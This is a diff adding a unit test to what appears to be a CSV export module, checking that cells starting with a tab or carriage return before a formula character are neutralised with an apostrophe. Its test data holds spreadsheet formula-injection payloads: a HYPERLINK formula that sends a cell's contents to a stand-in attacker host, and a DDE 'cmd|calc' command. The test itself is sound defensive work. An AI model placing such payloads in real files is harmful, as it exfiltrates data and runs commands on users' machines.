@@ -549,6 +549,23 @@ describe('dossiersCsv', () => {
     expect(contact?.card).toMatchObject(typed);
   });
 
+  // OWASP lists a leading tab and CR with = + - @: some spreadsheets drop leading whitespace and then
+  // run what follows (a cell "\t=cmd|..." becomes the formula =cmd|...).
+  it('puts an apostrophe before a cell that starts with a tab or a CR, as before =, +, - and @', () => {
+    const typed = {
+      name: '\t=HYPERLINK("http://evil.example/?"&A1,"Anna")',
+      company: '\r=cmd|calc!A0',
+      tags: "'\tquoted already",
+    };
+    const text = dossiersCsv([dossier('acme', typed)], false);
+    expect(text).toContain(`"'\t=HYPERLINK(""http://evil.example/?""&A1,""Anna"")"`);
+    expect(text).toContain(`"'\r=cmd|calc!A0"`);
+    expect(text.trimEnd().split(',')).toContain("''\tquoted already");
+    // The apostrophe comes off again on the way in, the one before a tab and before an apostrophe too.
+    const [contact] = readContactsCsv(dossiersCsv([dossier('acme', typed)], true)).contacts;
+    expect(contact?.card).toMatchObject({ name: typed.name, tags: typed.tags });
+  });
+
   it('reads back a note typed with CR LF as LF', () => {
     const [contact] = readContactsCsv(dossiersCsv([dossier('x', { name: 'X', notes: 'one\r\ntwo' })], true)).contacts;
     expect(contact?.card.notes).toBe('one\ntwo');
